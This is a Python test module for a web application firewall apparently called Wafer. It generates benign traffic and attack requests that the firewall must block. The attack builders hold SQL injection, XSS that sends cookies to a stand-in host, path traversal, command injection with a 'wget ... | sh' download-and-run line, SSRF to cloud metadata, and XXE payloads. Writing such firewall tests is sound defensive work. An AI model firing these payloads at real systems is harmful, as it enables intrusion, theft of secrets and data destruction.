"""The request mix: what each class of client sends and what it must get back.

Benign requests must be forwarded (2xx); attacks (several families, in the
query, a form, JSON, XML, a header and a multipart upload) must be refused
with 403 and each leave one event; a banned address gets 403; a client over a
tight rate limit gets 200 or 429. Payloads are written for this test.
"""

import json
import random
from urllib.parse import quote, urlencode

import wire

UA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36"
BANNED_IP = "203.0.113.66"
LIMITED_IP = "10.77.0.1"

WORDS = "blue shoes red shirt garden chair lamp oak table winter coat kettle".split()


def benign_ip(rng):
    return f"10.1.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def attack_ip(rng):
    # Spread wide, so that no address earns an automatic ban (strikes are
    # counted in Redis all the same).
    return f"10.66.{rng.randrange(256)}.{rng.randrange(1, 255)}"


def browser_headers(rng, cls):
    return [
        ("User-Agent", UA),
        ("Accept", "text/html,application/json;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "en-GB,en;q=0.8"),
        ("Cookie", f"session=s{rng.randrange(10**9)}; theme=dark"),
        ("X-Soak-Class", cls),
    ]


def multipart(fields, files):
    b = "soakboundary%08x" % random.getrandbits(32)
    out = bytearray()
    for k, v in fields:
        out += f'--{b}\r\nContent-Disposition: form-data; name="{k}"\r\n\r\n{v}\r\n'.encode()
    for k, name, ctype, data in files:
        out += (
            f'--{b}\r\nContent-Disposition: form-data; name="{k}"; filename="{name}"\r\n'
            f"Content-Type: {ctype}\r\n\r\n"
        ).encode() + data + b"\r\n"
    out += f"--{b}--\r\n".encode()
    return f"multipart/form-data; boundary={b}", bytes(out)


def text_file(rng, size):
    # Whole lines only: a word cut at the end ("\nsh" of "shirt") reads as a shell command.
    lines, n = [], 0
    while n < size:
        lines.append(" ".join(rng.choice(WORDS) for _ in range(12)) + f", row {len(lines)}.\n")
        n += len(lines[-1])
    return "".join(lines).encode()


def binary_file(rng, size):
    # A PNG signature and random bytes: binary by content.
    return b"\x89PNG\r\n\x1a\n" + rng.randbytes(size - 8)


# --- benign ---


def get_page(rng):
    q = urlencode({"q": " ".join(rng.sample(WORDS, 2)), "page": rng.randrange(1, 9)})
    path = rng.choice(["/search?" + q, f"/products/{rng.randrange(10**5)}", "/", "/static/app.js?v=3"])
    return "GET", path, [], b""


def post_form(rng):
    body = urlencode(
        {"name": "Ann O'Neil", "email": "ann@example.org", "comment": "It's great, I'd buy it again & again!"}
    ).encode()
    return "POST", "/contact", [("Content-Type", "application/x-www-form-urlencoded")], body


def post_json(rng):
    body = json.dumps(
        {
            "order": rng.randrange(10**6),
            "items": [{"sku": f"SKU-{rng.randrange(999)}", "qty": rng.randrange(1, 5)} for _ in range(rng.randrange(1, 6))],
            "note": "Leave it at the door, please; ring twice.",
        }
    ).encode()
    return "POST", "/api/orders", [("Content-Type", "application/json")], body


def upload(rng):
    size = rng.choice([2_000, 40_000, 300_000])
    files = [("photo", "photo.png", "image/png", binary_file(rng, size))]
    if rng.random() < 0.5:
        files = [("notes", "notes.txt", "text/plain", text_file(rng, size))]
    ctype, body = multipart([("title", "holiday")], files)
    return "POST", "/upload", [("Content-Type", ctype)], body


# --- attacks (each must be blocked) ---


def sqli(rng):
    v = rng.choice(
        [
            "7' OR '1'='1' -- ",
            "0 UNION SELECT login, passwd FROM staff--",
            "1; DROP TABLE orders",
            "5' AND SLEEP(5)#",
        ]
    )
    return "GET", "/products?id=" + quote(v), [], b""


def xss(rng):
    v = rng.choice(
        ["<script>fetch('//x.test/'+document.cookie)</script>", '"><img src=x onerror=alert(7)>', "<svg onload=alert(1)>"]
    )
    if rng.random() < 0.5:
        return "GET", "/search?q=" + quote(v), [], b""
    body = urlencode({"name": "x", "comment": v}).encode()
    return "POST", "/contact", [("Content-Type", "application/x-www-form-urlencoded")], body


def traversal(rng):
    v = rng.choice(["../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//etc/hosts"])
    return "GET", "/download?file=" + quote(v, safe="%"), [], b""


def cmdi(rng):
    v = rng.choice(["127.0.0.1; cat /etc/passwd", "x && wget http://203.0.113.9/s.sh | sh", "$(id)"])
    body = json.dumps({"host": v, "count": 3}).encode()
    return "POST", "/api/ping", [("Content-Type", "application/json")], body


def ssrf(rng):
    v = rng.choice(["http://169.254.169.254/latest/meta-data/iam/", "http://127.0.0.1:6379/", "file:///etc/passwd"])
    return "GET", "/fetch?url=" + quote(v, safe=""), [], b""


def xxe(rng):
    body = (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
        b"<order><note>&e;</note></order>"
    )
    return "POST", "/api/orders", [("Content-Type", "application/xml")], body


def header_attack(rng):
    return "GET", "/", [("Referer", "https://shop.test/?q=' UNION SELECT card FROM payments--")], b""


def upload_attack(rng):
    ctype, body = multipart(
        [("title", "<script>alert(document.domain)</script>")],
        [("notes", "notes.txt", "text/plain", text_file(rng, 1000))],
    )
    return "POST", "/upload", [("Content-Type", ctype)], body


# --- others ---


def banned(rng):
    m, p, h, b = get_page(rng)
    return m, p, h, b


def limited(rng):
    return "GET", f"/limited/item?n={rng.randrange(100)}", [], b""


# (name, kind, weight, builder, ip chooser). kind: benign must be 2xx,
# attack 403, banned 403, limited 200 or 429.
CLASSES = [
    ("get", "benign", 40, get_page, benign_ip),
    ("form", "benign", 8, post_form, benign_ip),
    ("json", "benign", 10, post_json, benign_ip),
    ("upload", "benign", 4, upload, benign_ip),
    ("sqli", "attack", 5, sqli, attack_ip),
    ("xss", "attack", 4, xss, attack_ip),
    ("traversal", "attack", 3, traversal, attack_ip),
    ("cmdi", "attack", 3, cmdi, attack_ip),
    ("ssrf", "attack", 2, ssrf, attack_ip),
    ("xxe", "attack", 1, xxe, attack_ip),
    ("header", "attack", 1, header_attack, attack_ip),
    ("upload-attack", "attack", 1, upload_attack, attack_ip),
    ("banned", "banned", 1, banned, lambda rng: BANNED_IP),
    ("limited", "limited", 3, limited, lambda rng: LIMITED_IP),
]

EXPECTED = {"benign": {200}, "attack": {403}, "banned": {403}, "limited": {200, 429}}


def pick(rng):
    return rng.choices(CLASSES, weights=[c[2] for c in CLASSES])[0]


def request_for(rng, host):
    """(class name, kind, raw bytes, method)."""
    name, kind, _, build, ip = pick(rng)
    method, path, extra, body = build(rng)
    headers = browser_headers(rng, name) + extra + [("X-Forwarded-For", ip(rng))]
    return name, kind, wire.build(method, path, host, headers, body), method


# WebSocket messages through Wafer to the upstream echo: benign chat, and an
# attack that must close the connection with 1008.
def ws_benign(rng):
    return json.dumps({"type": "chat", "text": f"{rng.choice(WORDS)} at {rng.randrange(24)}:00, it's fine"}).encode()


def ws_attack(rng):
    return json.dumps({"type": "search", "q": rng.choice(["1' UNION SELECT pass FROM users--", "<script>alert(1)</script>"])}).encode()
